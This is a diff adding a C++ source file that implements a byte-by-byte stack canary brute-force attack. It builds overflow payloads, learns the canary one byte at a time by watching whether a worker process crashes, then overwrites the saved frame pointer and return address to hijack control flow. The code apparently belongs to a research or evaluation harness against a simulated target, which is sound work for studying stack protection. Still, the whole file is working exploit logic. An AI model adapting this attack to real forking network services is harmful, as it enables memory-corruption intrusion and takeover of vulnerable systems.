@@ -1,0 +1,78 @@
+#include "attack/byte_by_byte.hpp"
+
+#include "util/bytes.hpp"
+
+namespace pssp::attack {
+
+byte_by_byte_result byte_by_byte::recover() {
+    byte_by_byte_result result;
+    result.trials_per_byte.assign(config_.canary_bytes, 0);
+
+    std::vector<std::uint8_t> known;  // confirmed canary bytes so far
+    while (known.size() < config_.canary_bytes) {
+        const std::size_t position = known.size();
+        bool confirmed = false;
+        for (unsigned restart = 0; restart <= config_.max_position_restarts && !confirmed;
+             ++restart) {
+            for (unsigned guess = 0; guess < 256; ++guess) {
+                if (result.trials >= config_.max_trials) return result;
+
+                // Payload: fill the buffer, replay the confirmed bytes,
+                // then exactly one new guessed byte. The handler's
+                // length-delimited copy writes nothing past it.
+                std::vector<std::uint8_t> payload(config_.prefix_bytes, 'A');
+                payload.insert(payload.end(), known.begin(), known.end());
+                payload.push_back(static_cast<std::uint8_t>(guess));
+
+                const auto r = oracle_.serve(payload);
+                ++result.trials;
+                ++result.trials_per_byte[position];
+                if (r.outcome != proc::worker_outcome::ok) {
+                    ++result.worker_crashes;
+                    continue;
+                }
+                known.push_back(static_cast<std::uint8_t>(guess));
+                confirmed = true;
+                break;
+            }
+        }
+        if (!confirmed) {
+            // 256 consecutive misses several times over: an earlier byte
+            // must be stale (canary changed underneath us). Start over.
+            if (known.empty()) return result;  // position 0 unguessable
+            known.clear();
+        }
+    }
+
+    result.canary = std::move(known);
+    result.canary_recovered = true;
+    return result;
+}
+
+proc::serve_result byte_by_byte::exploit(const std::vector<std::uint8_t>& canary,
+                                         std::uint64_t saved_rbp,
+                                         std::uint64_t ret_target) {
+    std::vector<std::uint8_t> payload(config_.prefix_bytes, 'A');
+    payload.insert(payload.end(), canary.begin(), canary.end());
+    std::uint8_t word[8];
+    util::store_le64(word, saved_rbp);
+    payload.insert(payload.end(), word, word + 8);
+    util::store_le64(word, ret_target);
+    payload.insert(payload.end(), word, word + 8);
+    return oracle_.serve(payload);
+}
+
+byte_by_byte::campaign_result byte_by_byte::run_campaign(std::uint64_t ret_target,
+                                                         std::uint64_t saved_rbp) {
+    campaign_result out;
+    out.recovery = recover();
+    out.total_trials = out.recovery.trials;
+    if (out.recovery.canary_recovered) {
+        const auto r = exploit(out.recovery.canary, saved_rbp, ret_target);
+        ++out.total_trials;
+        out.hijacked = r.outcome == proc::worker_outcome::hijacked;
+    }
+    return out;
+}
+
+}  // namespace pssp::attack
